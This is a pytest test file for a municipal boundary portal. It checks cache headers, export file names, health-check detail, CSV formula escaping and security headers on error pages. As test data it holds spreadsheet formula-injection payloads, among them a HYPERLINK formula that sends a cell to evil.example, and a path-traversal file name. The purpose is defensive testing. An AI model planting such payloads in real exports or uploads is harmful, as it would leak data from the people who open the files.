"""What responses give away: caching of signed-in pages and exports, the health check's detail,
formulas in CSV exports, and the security headers on error pages."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import delete, select

from portal import create_app
from portal.coverage import services as coverage
from portal.downloads import spreadsheet_safe
from portal.models import Area, TeamArea
from tests.conftest import signed_in

HX = {"HX-Request": "true"}


def ba_dinh(session) -> Area:
    return session.scalar(select(Area).where(Area.code == "00004"))


# --- Cache-Control ---


def test_every_response_to_a_signed_in_account_is_no_store(app, admin, demo):
    commune = ba_dinh(demo)
    for url, headers in [
        ("/areas/", {}),
        ("/areas/", HX),  # a fragment
        (f"/areas/{commune.id}", {}),
        ("/teams/", {}),
        ("/tra-cuu", {}),  # a public page, but answered to a signed-in account
        ("/areas/999999999", {}),  # an error page
    ]:
        response = admin.get(url, headers=headers)
        assert response.headers.get("Cache-Control") == "no-store", (url, headers)


def test_public_pages_and_shared_files_stay_cacheable(app, client, admin, demo):
    for url in ("/tra-cuu", "/login", "/healthz"):
        assert "no-store" not in client.get(url).headers.get("Cache-Control", ""), url
    # static files are the same for everyone: no need to fetch them again on every page
    for url in ("/static/css/portal.css", "/vendor/htmx.org/dist/htmx.min.js"):
        response = admin.get(url)
        assert response.status_code == 200, url
        assert "no-store" not in response.headers.get("Cache-Control", ""), url


def test_every_export_is_no_store(app, admin, demo):
    commune = ba_dinh(demo)
    for url in (
        f"/boundaries/export.geojson?commune_id={commune.id}",
        f"/boundaries/export.gpkg?commune_id={commune.id}",
        f"/coverage/problems.csv?commune_id={commune.id}",
        f"/coverage/gaps.geojson?commune_id={commune.id}",
    ):
        response = admin.get(url)
        assert response.status_code == 200, url
        assert response.headers["Cache-Control"] == "no-store", url
        assert response.headers["Content-Disposition"].startswith("attachment;"), url


def test_an_exports_file_name_is_never_a_path_or_a_broken_header(app, admin, demo):
    commune = ba_dinh(demo)
    commune.name = 'Phường "Ba Đình"/../../x'
    demo.commit()
    response = admin.get(f"/boundaries/export.gpkg?commune_id={commune.id}")
    assert response.status_code == 200
    disposition = response.headers["Content-Disposition"]
    assert disposition == 'attachment; filename="phuong_ba_dinh_x.gpkg"'


# --- /healthz ---


def test_healthz_versions_only_for_the_city_admin(app, admin, demo):
    body = admin.get("/healthz").get_json()
    assert body["status"] == "ok"
    assert body["database"].startswith("PostgreSQL 15")
    assert body["postgis"].startswith("3.")
    officer = signed_in(app, "canbo.xa")
    assert officer.get(
        "/healthz?detail=1", environ_base={"REMOTE_ADDR": "10.0.0.9"}
    ).get_json() == {"status": "ok"}


@pytest.mark.parametrize(
    ("address", "headers", "hops", "detailed"),
    [
        ("127.0.0.1", {}, 0, True),
        ("::1", {}, 0, True),
        ("203.0.113.5", {}, 0, False),  # from outside
        ("127.0.0.1", {"X-Forwarded-For": "203.0.113.5"}, 0, False),  # a proxy on the machine
        ("127.0.0.1", {"X-Real-IP": "203.0.113.5"}, 0, False),
        ("127.0.0.1", {}, 1, False),  # behind a proxy no request counts as local
    ],
)
def test_healthz_versions_for_a_local_check(app, client, address, headers, hops, detailed):
    app.config["PROXY_HOPS"] = hops
    try:
        response = client.get(
            "/healthz?detail=1", headers=headers, environ_base={"REMOTE_ADDR": address}
        )
    finally:
        app.config["PROXY_HOPS"] = 0
    assert response.status_code == 200
    assert ("postgis" in response.get_json()) is detailed
    # without asking, even the machine itself gets only up or down
    plain = client.get("/healthz", environ_base={"REMOTE_ADDR": address})
    assert plain.get_json() == {"status": "ok"}


# --- CSV exports ---

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "@SUM(1)", "+1", "-1"]


def test_the_problems_csv_shows_formulas_as_text(app, admin, demo):
    commune = ba_dinh(demo)
    villages = demo.scalars(
        select(Area).where(Area.parent_id == commune.id).order_by(Area.id).limit(len(FORMULAS))
    ).all()
    for village, name in zip(villages, FORMULAS, strict=True):
        village.name = name  # as an upload, a split or a merge could name it
    # without a team, each is a problem the export lists by name
    demo.execute(delete(TeamArea).where(TeamArea.area_id.in_([v.id for v in villages])))
    demo.commit()
    commune_id = commune.id
    with app.app_context():  # changed behind the services' backs: recompute the stored list
        coverage.refresh([commune_id])
        demo.commit()
    response = admin.get(f"/coverage/problems.csv?commune_id={commune_id}")
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    names = {r["what"] for r in rows if r["kind"] == "no_team"}
    assert {"'" + name for name in FORMULAS} <= names
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
    # numbers stay numbers: areas and bounds are written by us, not typed by users
    no_team = next(r for r in rows if r["kind"] == "no_team")
    assert float(no_team["west"]) > 100 and float(no_team["north"]) > 20


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+84 912", "'+84 912"),
        ("-2", "'-2"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Thôn 1 = Thôn 2", "Thôn 1 = Thôn 2"),  # only the first character counts
        ("", ""),
        (-105.5, -105.5),  # a coordinate we write stays a number
        (-3, -3),
        (None, None),
    ],
)
def test_spreadsheet_safe(value, safe):
    assert spreadsheet_safe(value) == safe


# --- error pages ---


def _assert_security_headers(response):
    assert "script-src" in response.headers["Content-Security-Policy"]
    assert response.headers["X-Frame-Options"] == "DENY"
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_a_404_keeps_the_security_headers(client, admin, demo):
    for who in (client, admin):
        response = who.get("/khong-co-trang-nay")
        assert response.status_code == 404
        _assert_security_headers(response)


def test_a_500_keeps_the_security_headers(monkeypatch):
    monkeypatch.setenv("DATABASE_URL", "postgresql+psycopg://x@127.0.0.1/x")
    failing = create_app({"PORTAL_ENV": "testing", "SECRET_KEY": "x"})
    failing.add_url_rule("/boom", "boom", lambda: 1 / 0)
    client = failing.test_client()
    for headers in ({}, HX, {"Accept": "application/json"}):
        response = client.get("/boom", headers=headers)
        assert response.status_code == 500
        _assert_security_headers(response)
